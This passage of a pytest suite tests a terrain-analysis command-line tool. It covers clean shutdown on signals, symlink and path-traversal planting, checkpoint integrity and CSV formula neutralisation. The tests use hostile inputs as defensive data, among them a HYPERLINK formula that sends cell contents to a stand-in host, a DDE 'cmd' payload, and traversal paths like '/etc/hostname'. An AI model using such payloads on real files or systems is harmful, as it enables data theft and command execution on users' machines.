    conns = []

    def serve():
        while True:
            try:
                c, _ = srv.accept()
            except OSError:
                return
            conns.append(c)
            if reply:
                c.sendall(reply)

    threading.Thread(target=serve, daemon=True).start()
    address = f"tcp://127.0.0.1:{srv.getsockname()[1]}"
    t = time.time()
    try:
        code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--scheduler", address)
    finally:
        srv.close()
        for c in conns:
            c.close()
    no_traceback(err)
    one_line_error(code, err, address, "cannot reach a Dask scheduler", "--scheduler")
    assert time.time() - t < 30
    nothing_written(tmp_path / "o")


# -- clean shutdown ----------------------------------------------------------------------------------
def _children(pid):
    out = []
    for task in os.listdir(f"/proc/{pid}/task"):
        with open(f"/proc/{pid}/task/{task}/children") as fh:
            out += [int(c) for c in fh.read().split()]
    return out


def _alive(pid):
    try:
        with open(f"/proc/{pid}/status") as fh:
            return "State:\tZ" not in fh.read()
    except OSError:
        return False


@pytest.fixture
def big_dem(tmp_path):
    return write_tif(tmp_path / "big.tif", smooth_terrain((200, 200), seed=4))


def _all_gone(pids, within: float = 10.0) -> bool:
    """True once none of ``pids`` is alive (polled; no fixed sleep)."""
    deadline = time.time() + within
    while [k for k in pids if _alive(k)] and time.time() < deadline:
        time.sleep(0.05)
    return not [k for k in pids if _alive(k)]


def _await(ck, within: float = 120.0) -> None:
    """Wait until the run has saved its first checkpoint ``ck`` (after 50 realisations:
    the realisations are under way)."""
    deadline = time.time() + within
    while not ck.exists() and time.time() < deadline:
        time.sleep(0.1)


_STARTED: list = []  # runs started by _start_two_workers: killed after their test


@pytest.fixture(autouse=True)
def _reap_runs():
    """A test that fails before its run ends leaves no run (or its workers) behind."""
    yield
    while _STARTED:
        p = _STARTED.pop()
        if p.poll() is None:
            for k in _children(p.pid):
                with contextlib.suppress(OSError):
                    os.kill(k, signal.SIGKILL)
            p.kill()
            p.wait()


def _start_two_workers(dem, out, *extra, group: bool = False):
    # group: in a process group of its own, as a shell runs a command (a terminal's
    # Ctrl-C, or a service manager's SIGTERM, goes to the whole group)
    # -n 1000: every run started here is stopped, and long before its realisations end
    p = subprocess.Popen(CLI + ["peaks", str(dem), "-o", str(out), "--rmse", "1", "-n", "1000",
                                "--workers", "2", "-q", *map(str, extra)],
                         stderr=subprocess.PIPE, text=True, start_new_session=group)
    _STARTED.append(p)
    deadline = time.time() + 120
    while time.time() < deadline and len(_children(p.pid)) < 2:
        time.sleep(0.01)  # the workers are being spawned
    return p, _children(p.pid)


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_ctrl_c_while_workers_spawn(big_dem, tmp_path):
    p, kids = _start_two_workers(big_dem, tmp_path / "o")
    p.send_signal(signal.SIGINT)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 130, err
    no_traceback(err)
    lines = said(err)
    assert lines[0].startswith("cairn: interrupted") and len(lines) == 1
    assert _all_gone(kids)
    nothing_written(tmp_path / "o")


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_sigterm_saves_and_exits_143_and_a_killed_parent_takes_its_workers(big_dem, tmp_path):
    ck = tmp_path / "ck.npz"
    p, kids = _start_two_workers(big_dem, tmp_path / "o", "--checkpoint", ck)
    _await(ck)
    p.send_signal(signal.SIGTERM)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 143 and "terminated after" in err and "--resume" in err, err
    no_traceback(err)
    assert _all_gone(kids)
    p, kids = _start_two_workers(big_dem, tmp_path / "o2")
    p.kill()
    p.wait()
    assert _all_gone(kids)  # they die with their parent


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_sigterm_to_the_process_group_while_workers_start_ends_in_one_line(big_dem, tmp_path):
    # Workers start with SIGTERM blocked, as with SIGINT: sent to the whole group, it
    # once reached them while they imported (each printed "cairn: terminated"), or
    # killed them and the parent reported "worker processes exited while starting"
    for n in range(2):
        p, kids = _start_two_workers(big_dem, tmp_path / f"o{n}", group=True)
        time.sleep(0.1 * n)  # as the workers are spawned, and as they import
        os.killpg(p.pid, signal.SIGTERM)
        _, err = p.communicate(timeout=60)
        assert p.returncode == 143, err
        no_traceback(err)
        lines = said(err)
        assert len(lines) == 1 and lines[0].startswith("cairn: terminated"), err
        assert _all_gone(kids)
        nothing_written(tmp_path / f"o{n}")


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_a_second_ctrl_c_while_workers_start_leaves_no_process_and_no_hang(big_dem, tmp_path):
    # a second Ctrl-C once cut the pool's stop short: a worker lived on and the
    # interpreter's exit waited on it for ever, or it printed a traceback
    # (about 1 in 20 with the signals 0.03 s apart; our own rule: no outside reference)
    for n, gap in enumerate((0.03, 0.3)):
        p, kids = _start_two_workers(big_dem, tmp_path / f"o{n}")
        p.send_signal(signal.SIGINT)
        time.sleep(gap)
        p.send_signal(signal.SIGINT)
        _, err = p.communicate(timeout=60)
        assert p.returncode == 130, err
        no_traceback(err)
        assert _all_gone(kids)
        nothing_written(tmp_path / f"o{n}")


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_a_second_sigterm_ends_the_run_at_once_and_leaves_nothing(big_dem, tmp_path):
    # the second SIGTERM once took the signal's default action: the process died
    # at once, its output folder left behind holding the lock file
    ck = tmp_path / "ck.npz"
    p, kids = _start_two_workers(big_dem, tmp_path / "o", "--checkpoint", ck)
    _await(ck)
    p.send_signal(signal.SIGTERM)
    time.sleep(0.02)
    p.send_signal(signal.SIGTERM)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 143, err
    no_traceback(err)
    lines = said(err)
    assert len(lines) == 1, err
    # landing while the realisations ran or the workers stopped, the second SIGTERM
    # leaves the line of the first (how many realisations the checkpoint holds);
    # landing while the checkpoint was saved, it cuts the save short and the line
    # names the checkpoint that was already there
    assert (lines[0].startswith("cairn: terminated after") and f"saved {ck}" in lines[0]
            or lines[0].startswith(f"cairn: terminated; nothing written. {ck} holds")), err
    assert _all_gone(kids)
    nothing_written(tmp_path / "o")


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_a_dead_worker_ends_the_run_in_one_line(big_dem, tmp_path):
    ck = tmp_path / "ck.npz"
    p, kids = _start_two_workers(big_dem, tmp_path / "o", "--checkpoint", ck)
    _await(ck)
    os.kill(kids[-1], signal.SIGKILL)
    _, err = p.communicate(timeout=60)
    one_line_error(p.returncode, err, "worker process died", "--workers")
    assert ck.exists()
    nothing_written(tmp_path / "o")


def test_stopping_a_pool_whose_worker_died_mid_result_does_not_hang():
    # A worker killed (SIGTERM's stop, Ctrl-C) while it sends a large result leaves the
    # pool's manager thread reading the rest of the message; this process holds the
    # pipe's write end too, so the read never ends and the interpreter's exit (which
    # joins that thread) hung after "terminated after ...". Simulated exactly: a
    # message header promising 1 MB, followed by 10 bytes, in the result pipe.
    import concurrent.futures as cf
    import multiprocessing as mp
    import struct

    from terrain.runner.backends import stop_pool

    pool = cf.ProcessPoolExecutor(max_workers=1, mp_context=mp.get_context("spawn"))
    writer = pool._result_queue._writer
    try:
        assert pool.submit(abs, -3).result(timeout=120) == 3  # the manager thread runs
        manager = pool._executor_manager_thread
        os.write(writer.fileno(), struct.pack("!i", 2**20) + b"x" * 10)
        time.sleep(0.3)  # the manager thread is now inside the read
        t = time.time()
        stop_pool(pool, {}, broken=True)
        assert not manager.is_alive() and time.time() - t < 8
    finally:
        if not writer.closed:  # the fix failed: free the thread, or pytest's exit would hang
            writer.close()


# -- every traceback above is one line ------------------------------------------------------------------
def test_negative_seed(cairn, dem, tmp_path):
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--seed", "-1")
    one_line_error(code, err, "--seed")
    nothing_written(tmp_path / "o")


@pytest.mark.slow
def test_sweep_on_a_plane_without_features(cairn, tmp_path):
    plane = write_tif(tmp_path / "plane.tif", np.add.outer(np.arange(30.0), np.arange(30.0)))
    code, _, err = cairn("sweep", plane, "-o", tmp_path / "o", "--kind", "depressions",
                         "--rmse", "0.01,0.02", "-n", "4", "--workers", "1", "-q")
    assert code == 0, err
    assert {p.name for p in (tmp_path / "o").iterdir()} == {
        "sweep.csv", "kernel_sensitivity.csv", "sweep.png", "run.json"}


@pytest.mark.real_figures
@pytest.mark.slow
@pytest.mark.parametrize("shape", [(100, 1), (1000, 1), (1, 1000)])
def test_quicklook_of_a_strip_stays_small(cairn, tmp_path, shape):
    from PIL import Image

    p = write_tif(tmp_path / "strip.tif", smooth_terrain(shape, seed=1))
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
    assert code == 0, err
    with Image.open(tmp_path / "o" / "quicklook.png") as im:
        assert max(im.size) < 3000 and min(im.size) > 300, im.size


def test_nugget_without_range_refused(cairn, dem, tmp_path):
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--nugget", "0.3")
    one_line_error(code, err, "--nugget", "--range")
    nothing_written(tmp_path / "o")


@pytest.mark.real_figures
@pytest.mark.slow
def test_quicklook_of_a_big_grid_is_drawn_in_blocks(cairn, dem, tmp_path, monkeypatch):
    # reference: scikit-image's block_reduce (a general-purpose library) for the blocks
    from PIL import Image
    from skimage.measure import block_reduce

    import terrain.outputs.mapframe as mapframe

    z = smooth_terrain((23, 17), seed=2)
    nodata = np.zeros(z.shape, bool)
    nodata[3, 4] = True
    ref = block_reduce(np.where(nodata, np.nan, z), (5, 5), func=np.nanmax, cval=np.nan)
    assert np.allclose(mapframe._pool(np.where(nodata, np.nan, z), 5, np.nanmax), ref,
                       equal_nan=True)
    monkeypatch.setattr(mapframe, "MAX_PIXELS", 10)  # the 40 x 40 test DEM now needs blocks
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN)
    assert code == 0, err
    with Image.open(tmp_path / "o" / "quicklook.png") as im:
        assert im.size[0] > 300


# =====================================================================================
# Issue 25: nothing outside the folder, no silent wrong answer. Each case: exit code,
# the one line, what is left on disk, and that nothing outside the folder changed.
# =====================================================================================
def tree(folder):
    """Every entry under ``folder`` (links not followed) with its kind and bytes."""
    out = {}
    for root, dirs, files in os.walk(folder):
        for name in dirs + files:
            p = os.path.join(root, name)
            rel = os.path.relpath(p, folder)
            if os.path.islink(p):
                out[rel] = ("link", os.readlink(p))
            elif os.path.isdir(p):
                out[rel] = ("dir", None)
            else:
                with open(p, "rb") as fh:
                    out[rel] = ("file", fh.read())
    return out


@pytest.fixture
def outside(tmp_path):
    """A folder beside the output folder holding a user's files (the victims)."""
    v = tmp_path / "outside"
    v.mkdir()
    (v / "victim.txt").write_text("the user's own text\n")
    (v / "notes.csv").write_text("a,b\n1,2\n")
    return v


def outputs_of(out):
    return sorted(p.name for p in out.iterdir() if not p.name.startswith(".")) if out.exists() else []


# -- 1. the lock is never followed --------------------------------------------------------
@pytest.mark.parametrize("plant", ["symlink", "dangling", "hardlink", "folder", "fifo"])
def test_a_planted_lock_entry_is_never_written_through(cairn, dem, tmp_path, outside, plant):
    out = tmp_path / "o"
    out.mkdir()
    lock = out / ".cairn.lock"
    if plant == "symlink":
        lock.symlink_to(outside / "victim.txt")
    elif plant == "dangling":
        lock.symlink_to(outside / "created-by-cairn.txt")
    elif plant == "hardlink":
        os.link(outside / "victim.txt", lock)
    elif plant == "folder":
        lock.mkdir()
    else:
        os.mkfifo(lock)
    before = tree(outside)
    code, _, err = cairn("peaks", dem, "-o", out, *RUN)
    no_traceback(err)
    one_line_error(code, err, ".cairn.lock", "not a cairn lock file" if plant != "symlink"
                   and plant != "dangling" else "symbolic link")
    assert tree(outside) == before  # the target holds its text; no file was created there
    assert outputs_of(out) == []


def test_a_planted_checkpoint_lock_is_never_written_through(cairn, dem, tmp_path, outside):
    (tmp_path / ".ck.npz.lock").symlink_to(outside / "victim.txt")
    before = tree(outside)
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--checkpoint",
                         tmp_path / "ck.npz")
    one_line_error(code, err, ".ck.npz.lock", "symbolic link")
    assert tree(outside) == before
    nothing_written(tmp_path / "o")


# -- 2. the tidy-up trusts no name it finds ------------------------------------------------
@pytest.mark.parametrize("names", [
    ["../../outside/victim.txt"], ["../outside/notes.csv"], ["/etc/hostname"],
    ["sub/../../outside/victim.txt"], [".."], ["."], [""], [".cairn.lock"], "not a list",
    [{"name": "victim.txt"}], ["run.json", "../outside/victim.txt"]])
def test_a_planted_publication_marker_moves_nothing_from_outside(cairn, dem, tmp_path, outside,
                                                               names):
    import json

    out = tmp_path / "o"
    stage = out / ".cairn-staging-planted"
    stage.mkdir(parents=True)
    (stage / ".publishing.json").write_text(json.dumps(names))
    before = tree(outside)
    code, _, err = cairn("peaks", dem, "-o", out, *RUN)
    assert code == 0, err
    assert tree(outside) == before
    assert not stage.exists()  # a real staging folder of this user: removed
    assert "victim.txt" not in outputs_of(out) and "notes.csv" not in outputs_of(out)


@pytest.mark.parametrize("plant", ["staged file is a link", "staging folder is a link",
                                   "marker is a link"])
def test_links_in_a_staging_folder_are_never_followed(cairn, dem, tmp_path, outside, plant):
    import json

    out = tmp_path / "o"
    out.mkdir()
    if plant == "staged file is a link":
        stage = out / ".cairn-staging-x"
        stage.mkdir()
        (stage / "summits.csv").symlink_to(outside / "notes.csv")
        (stage / ".publishing.json").write_text(json.dumps(["summits.csv"]))
    elif plant == "staging folder is a link":
        (outside / ".publishing.json").write_text(json.dumps(["notes.csv", "victim.txt"]))
        (out / ".cairn-staging-x").symlink_to(outside)
    else:
        stage = out / ".cairn-staging-x"
        stage.mkdir()
        (outside / "marker.json").write_text(json.dumps(["notes.csv"]))
        (stage / ".publishing.json").symlink_to(outside / "marker.json")
        os.link(outside / "notes.csv", stage / "notes.csv")
    before = tree(outside)
    code, _, err = cairn("peaks", dem, "-o", out, *RUN)
    assert code == 0, err
    assert tree(outside) == before
    assert "notes.csv" not in outputs_of(out)
    if plant == "staging folder is a link":  # not cairn's: left where it is, untouched
        assert (out / ".cairn-staging-x").is_symlink()
    with open(out / "summits.csv") as fh:
        assert fh.readline().startswith("feature_id")  # cairn's own table, not the user's


@pytest.mark.parametrize("name", ["run.json", "summits.csv", "peaks.gpkg", "peaks.gpkg-wal",
                                  "peaks.gpkg-shm", "summit_credit.tif"])
def test_links_planted_at_output_names_are_replaced_not_followed(cairn, dem, tmp_path, outside,
                                                                name):
    import sqlite3

    out = tmp_path / "o"
    out.mkdir()
    con = sqlite3.connect(outside / "their.sqlite")  # a database of the user's, elsewhere
    con.execute("CREATE TABLE t (a)")
    con.commit()
    con.close()
    target = outside / ("their.sqlite" if name.startswith("peaks.gpkg") else "victim.txt")
    (out / name).symlink_to(target)
    before = tree(outside)
    code, _, err = cairn("peaks", dem, "-o", out, *RUN, "--overwrite")
    assert code == 0, err
    assert tree(outside) == before
    assert not (out / name).is_symlink()


def test_publication_markers_name_only_what_cairn_writes():
    # every file any command publishes passes the marker's name check; nothing with a folder does
    from terrain.io import OUTPUT_NAME
    from terrain.outputs.manifest import MANIFEST, file_names

    for command in MANIFEST:
        for name in file_names(command, ["g1", "a-b_c", "_HYPERLINK__x"]):
            assert OUTPUT_NAME.match(name), name
    for bad in ("../x.tif", "a/b.csv", ".hidden.json", "x.sh", "run.json/..", "", "x.tif\n"):
        assert not OUTPUT_NAME.match(bad), bad


# -- 3. inputs are sacred ------------------------------------------------------------------
@pytest.fixture
def proj(tmp_path):
    p = tmp_path / "proj"
    p.mkdir()
    write_tif(p / "dem.tif", smooth_terrain((40, 40), seed=1))
    (p / "outlets.csv").write_text("id,x,y\ng1,500105,6799705\ng2,500305,6799805\n")
    return p


@pytest.mark.parametrize("extra", [("--overwrite",), (), ("--resume",)])
def test_the_outlets_file_is_never_replaced(cairn, proj, tmp_path, extra):
    ck = () if extra != ("--resume",) else ("--checkpoint", tmp_path / "ck.npz")
    before = tree(proj)
    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", proj / "outlets.csv", "-o",
                         proj, *RUN, *extra, *ck)
    one_line_error(code, err, "outlets.csv", "input", "-o/--outdir")
    assert tree(proj) == before


@pytest.mark.parametrize("where", ["summit_credit.tif", "link to an output", "staging",
                                   "temporary name"])
def test_the_dem_is_never_replaced(cairn, tmp_path, where):
    out = tmp_path / "o"
    out.mkdir()
    z = smooth_terrain((40, 40), seed=1)
    if where == "summit_credit.tif":
        dem = write_tif(out / "summit_credit.tif", z)
    elif where == "link to an output":
        write_tif(out / "summit_credit.tif", z)
        dem = tmp_path / "dem.tif"
        dem.symlink_to(out / "summit_credit.tif")
    elif where == "staging":  # the tidy-up removes staging folders
        (out / ".cairn-staging-mine").mkdir()
        dem = write_tif(out / ".cairn-staging-mine" / "dem.tif", z)
    else:  # the tidy-up removes atomic writes' temporary names
        dem = write_tif(out / ".dem.tif.abcd1234.part.tif", z)
    before = tree(tmp_path)
    code, _, err = cairn("peaks", dem, "-o", out, *RUN, "--overwrite")
    one_line_error(code, err, "input", "-o/--outdir")
    assert tree(tmp_path) == before


def test_a_dem_a_catchment_run_would_remove_is_refused(cairn, proj):
    # earlier per-outlet rasters the new set lacks are removed on publication
    dem = write_tif(proj / "catchment_probability_old.tif", smooth_terrain((40, 40), seed=1))
    before = tree(proj)
    code, _, err = cairn("catchments", dem, "--outlets", proj / "outlets.csv", "-o", proj, *RUN,
                         "--overwrite")
    one_line_error(code, err, "catchment_probability_old.tif", "input")
    assert tree(proj) == before


def test_a_dem_inside_the_checkpoints_counts_is_refused(cairn, tmp_path):
    counts = tmp_path / "ck.npz.counts"
    counts.mkdir()
    dem = write_tif(counts / "dem.tif", smooth_terrain((40, 40), seed=1))
    before = tree(tmp_path)
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", "16",
                         "--checkpoint", tmp_path / "ck.npz")
    one_line_error(code, err, "dem.tif", "--checkpoint")
    assert tree(tmp_path) == before


# -- 4. a <checkpoint>.counts that is not cairn's ----------------------------------------------
@pytest.mark.parametrize("plant", ["folder of files", "link to a folder", "file", "link to a file"])
@pytest.mark.parametrize("cmd", [("depressions", "--block", "16"), ("peaks",)])
def test_a_counts_path_that_is_not_cairns_is_never_removed(cairn, dem, tmp_path, outside, plant,
                                                         cmd):
    counts = tmp_path / "ck.npz.counts"
    if plant == "folder of files":
        counts.mkdir()
        (counts / "my-notes.txt").write_text("mine\n")
        (counts / "zarr.json").write_text('{"node_type": "group"}')
    elif plant == "link to a folder":
        counts.symlink_to(outside)
    elif plant == "file":
        counts.write_text("mine\n")
    else:
        counts.symlink_to(outside / "victim.txt")
    before = tree(tmp_path)
    code, _, err = cairn(*cmd[:1], dem, "-o", tmp_path / "o", *RUN, *cmd[1:], "--checkpoint",
                         tmp_path / "ck.npz", "--overwrite")
    no_traceback(err)
    one_line_error(code, err, "ck.npz.counts", "not cairn's per-cell counts", "--checkpoint")
    assert tree(tmp_path) == before


# -- 5. spreadsheet formulas in CSV cells --------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
            "-2+3", "\t=1+2", "\r=1+3", " =1+4", "\uff1d1+5", "=", "@"]


def _csv_cells(path):
    import csv

    with open(path, newline="") as fh:
        return list(csv.reader(fh))


def _executable(cell):
    from terrain.io import FORMULA_START

    return cell.startswith(FORMULA_START) or cell.lstrip().startswith(FORMULA_START)


@pytest.mark.parametrize("fmt", ["csv", "gpkg"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cairn, tmp_path, fmt):
    # OWASP, "CSV Injection": a cell starting with =, +, -, @, tab or CR may be run; a leading '
    # makes it text. The GeoPackage keeps the text as given.
    import csv

    import geopandas as gpd
    from shapely.geometry import Point

    dem = write_tif(tmp_path / "dem.tif", smooth_terrain((40, 40), seed=1))
    rows = [(f, 500105.0 + 30 * k, 6799705.0 + 15 * k, f) for k, f in enumerate(FORMULAS)]
    if fmt == "csv":
        src = tmp_path / "outlets.csv"
        with open(src, "w", newline="") as fh:
            w = csv.writer(fh)
            w.writerow(["id", "x", "y", "=note"])
            w.writerows(rows)
    else:
        src = tmp_path / "outlets.gpkg"
        gpd.GeoDataFrame({"id": [r[0] for r in rows], "=note": [r[3] for r in rows]},
                         geometry=[Point(r[1], r[2]) for r in rows],
                         crs="EPSG:32633").to_file(src, driver="GPKG")
    out = tmp_path / "o"
    code, _, err = cairn("catchments", dem, "--outlets", src, "-o", out, *RUN)
    assert code == 0, err
    for name in ("outlets.csv", "catchments.csv", "subcatchments.csv"):
        cells = _csv_cells(out / name)
        bad = [c for row in cells for c in row if _executable(c)]
        assert not bad, (name, bad)
        ids = [row[0] for row in cells[1:]]  # ids are stripped of blanks (terrain.outlets)
        assert {i[1:] for i in ids} == {f.strip() for f in FORMULAS}  # each one, behind a '
        assert "'=note" in cells[0]
    kept = gpd.read_file(out / "catchments.gpkg", layer="outlets")
    assert sorted(kept["outlet_id"]) == sorted(f.strip() for f in FORMULAS)  # raw text kept
    assert "=note" in kept.columns


def test_csv_cell_follows_owasp_and_leaves_numbers_alone():
    import pandas as pd

    from terrain.io import csv_cell, csv_safe

    for f in FORMULAS:
        assert csv_cell(f) == "'" + f.replace("\r", "\n")
    assert csv_cell("ok\r=1+1") == "ok\n=1+1"  # never a row of its own (written quoted)
    for plain in ("gauge 7", "Río Verde", "", "a=b", "7-2"):
        assert csv_cell(plain) == plain
    frame = pd.DataFrame({"x": [-5.25, 3.0], "id": ["-1", "g2"], "n": [-3, 4]})
    got = csv_safe(frame)
    assert got["x"].tolist() == [-5.25, 3.0] and got["n"].tolist() == [-3, 4]
    assert got["id"].tolist() == ["'-1", "g2"]
    assert frame["id"].tolist() == ["-1", "g2"]  # the caller's frame is left as it was


# -- 6. a GeoPackage is replaced whole ------------------------------------------------------------
_HOLD_WAL = """
import sqlite3, sys, time
con = sqlite3.connect(sys.argv[1])
con.execute("PRAGMA journal_mode=WAL")
con.execute("CREATE TABLE IF NOT EXISTS gis_notes (t TEXT)")
con.execute("INSERT INTO gis_notes VALUES ('edited in a GIS')")
con.commit()
con.execute("SELECT count(*) FROM gis_notes").fetchall()
print("held", flush=True)
time.sleep(120)
"""


def _integrity(path):
    import sqlite3

    con = sqlite3.connect(path)
    try:
        return con.execute("PRAGMA integrity_check").fetchall()
    finally:
        con.close()


def test_a_geopackage_held_by_another_program_is_refused_then_replaced_whole(cairn, dem, done):
    gpkg = done / "peaks.gpkg"
    holder = subprocess.Popen([sys.executable, "-c", _HOLD_WAL, str(gpkg)], stdout=subprocess.PIPE,
                              text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        assert (done / "peaks.gpkg-wal").exists() and (done / "peaks.gpkg-shm").exists()
        before = snapshot(done)
        code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--seed", "3", "--overwrite")
        one_line_error(code, err, "peaks.gpkg", "open in another program")
        assert snapshot(done) == before  # the previous set, its GIS's log included
    finally:
        holder.kill()  # the GIS crashes: its -wal and -shm stay behind, stale
        holder.wait()
    assert (done / "peaks.gpkg-wal").exists()
    code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--seed", "3", "--overwrite")
    assert code == 0, err
    assert not [p.name for p in done.iterdir() if p.name.startswith("peaks.gpkg-")]
    assert _integrity(gpkg) == [("ok",)]
    import pyogrio

    assert {name for name, _ in pyogrio.list_layers(gpkg)} >= {"summits", "cols"}


@pytest.mark.parametrize("leftover", ["-journal", "-wal", "-shm"])
def test_stale_sqlite_files_beside_a_geopackage_are_removed(cairn, dem, done, leftover):
    (done / f"peaks.gpkg{leftover}").write_bytes(b"\x00" * 4096 + b"stale")
    code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--seed", "3", "--overwrite")
    assert code == 0, err
    assert not (done / f"peaks.gpkg{leftover}").exists()
    assert _integrity(done / "peaks.gpkg") == [("ok",)]


def test_a_geopackage_failing_sqlites_check_is_never_published(cairn, dem, done, monkeypatch):
    import terrain.io.checked as io

    before = snapshot(done)
    real = io._check_gpkg

    def damaged(tmp, bands):
        # a torn b-tree page header (page 2, its cell count): GDAL still lists and reads the
        # layers, SQLite's integrity check finds the database malformed
        with open(tmp, "r+b") as fh:
            fh.seek(4096 + 3)
            fh.write(b"\xff\xff")
        return real(tmp, bands)

    monkeypatch.setitem(io._CHECKS, ".gpkg", damaged)
    code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--seed", "3", "--overwrite")
    no_traceback(err)
    one_line_error(code, err, "peaks.gpkg", "malformed")
    assert snapshot(done) == before


# -- 7. a checkpoint is one unit --------------------------------------------------------------------
BLOCKED = ("--rmse", "1", "--workers", "1", "-q", "--block", "32")


@pytest.fixture
def blocked_ck(cairn, tmp_path):
    """A blocked depressions run of 4 realisations with its checkpoint and counts."""
    dem = write_tif(tmp_path / "dem.tif", smooth_terrain((70, 64), seed=3))
    ck = tmp_path / "ck.npz"
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "first", *BLOCKED, "-n", "4",
                         "--checkpoint", ck)
    assert code == 0, err
    return dem, ck


def _chunk_files(store, array):
    return sorted(p for p in (store / array / "c").rglob("*") if p.is_file())


def _damage_store(store, how):
    import json
    import shutil

    if how == "missing chunk":
        _chunk_files(store, "counts_0")[1].unlink()  # 4 realisations: buffer 0 is the live one
    elif how == "garbage chunk":
        _chunk_files(store, "counts_0")[2].write_bytes(b"not zstd at all")
    elif how == "chunk from another block":
        a, b = _chunk_files(store, "counts_0")[:2]
        shutil.copy(a, b)
    elif how == "missing digest":
        _chunk_files(store, "digest_0")[0].unlink()
    elif how == "missing stamp":
        _chunk_files(store, "applied")[0].unlink()
    elif how == "no identity":
        meta = json.loads((store / "zarr.json").read_text())
        meta["attributes"] = {}
        (store / "zarr.json").write_text(json.dumps(meta))
    elif how == "store gone":
        shutil.rmtree(store)


@pytest.mark.parametrize("how", ["missing chunk", "garbage chunk", "chunk from another block",
                                 "missing digest", "missing stamp", "no identity", "store gone"])
def test_a_damaged_count_store_is_a_damaged_checkpoint(cairn, tmp_path, blocked_ck, how):
    dem, ck = blocked_ck
    store = tmp_path / "ck.npz.counts"
    _damage_store(store, how)
    before = tree(tmp_path / "first"), ck.read_bytes()
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "r", *BLOCKED, "-n", "6",
                         "--checkpoint", ck, "--resume")
    no_traceback(err)
    one_line_error(code, err, f"{ck}: damaged checkpoint", "--resume")
    nothing_written(tmp_path / "r")
    assert (tree(tmp_path / "first"), ck.read_bytes()) == before


def test_a_count_store_of_another_run_is_refused(cairn, tmp_path, blocked_ck):
    import shutil

    dem, ck = blocked_ck
    other = write_tif(tmp_path / "other.tif", smooth_terrain((70, 64), seed=4))
    ck2 = tmp_path / "ck2.npz"
    assert cairn("depressions", other, "-o", tmp_path / "second", *BLOCKED, "-n", "4",
                 "--checkpoint", ck2)[0] == 0
    mine, theirs = tmp_path / "ck.npz.counts", tmp_path / "ck2.npz.counts"
    for array in ("counts_0", "digest_0"):  # one block, with its digest, from the other run
        chunk = _chunk_files(theirs, array)[0].relative_to(theirs)
        shutil.copy(theirs / chunk, mine / chunk)
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "r", *BLOCKED, "-n", "6",
                         "--checkpoint", ck, "--resume")
    one_line_error(code, err, "damaged checkpoint", "does not match its digest")
    shutil.rmtree(mine)
    shutil.copytree(theirs, mine)  # the whole store swapped
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "r", *BLOCKED, "-n", "6",
                         "--checkpoint", ck, "--resume")
    one_line_error(code, err, "damaged checkpoint", "another run")
    nothing_written(tmp_path / "r")


@pytest.mark.slow
def test_a_whole_count_store_resumes_to_the_uninterrupted_run(cairn, tmp_path, blocked_ck):
    dem, ck = blocked_ck
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "resumed", *BLOCKED, "-n", "6",
                         "--checkpoint", ck, "--resume", "--block", "16")  # another block: copied
    assert code == 0, err
    assert cairn("depressions", dem, "-o", tmp_path / "straight", *BLOCKED, "-n", "6")[0] == 0
    for name in ("ponding_probability.tif", "pit_credit.tif"):
        with rasterio.open(tmp_path / "resumed" / name) as a, \
                rasterio.open(tmp_path / "straight" / name) as b:
            assert a.read().tobytes() == b.read().tobytes(), name


def test_a_checkpoint_in_use_by_another_run_is_refused(cairn, dem, tmp_path):
    ck = tmp_path / "shared.npz"
    other = write_tif(tmp_path / "other.tif", smooth_terrain((40, 40), seed=7))
    holder = subprocess.Popen(  # another cairn run holding the checkpoint, as a running one does
        [sys.executable, "-c", "import fcntl, os, time; "
         f"fd = os.open({str(tmp_path / '.shared.npz.lock')!r}, os.O_RDWR | os.O_CREAT); "
         "os.write(fd, b'4343'); fcntl.flock(fd, fcntl.LOCK_EX); print('held', flush=True); "
         "time.sleep(60)"], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        for d, extra in ((dem, ()), (other, ("--overwrite",)), (dem, ("--resume",))):
            code, _, err = cairn("peaks", d, "-o", tmp_path / "o", *RUN, "--checkpoint", ck, *extra)
            one_line_error(code, err, "shared.npz", "another cairn run is using this checkpoint",
                           "process 4343", "--checkpoint")
            nothing_written(tmp_path / "o")
        assert not ck.exists()
    finally:
        holder.kill()
        holder.wait()
    assert cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--checkpoint", ck)[0] == 0
    assert ck.exists() and not (tmp_path / ".shared.npz.lock").exists()


@pytest.mark.slow
def test_two_runs_on_one_checkpoint_at_once(tmp_path):
    # two real runs started together on one --checkpoint (different DEMs, different folders):
    # one runs, the other is refused in one line; neither publishes the other's counts
    dems = [write_tif(tmp_path / f"d{k}.tif", smooth_terrain((120, 120), seed=k)) for k in (1, 2)]
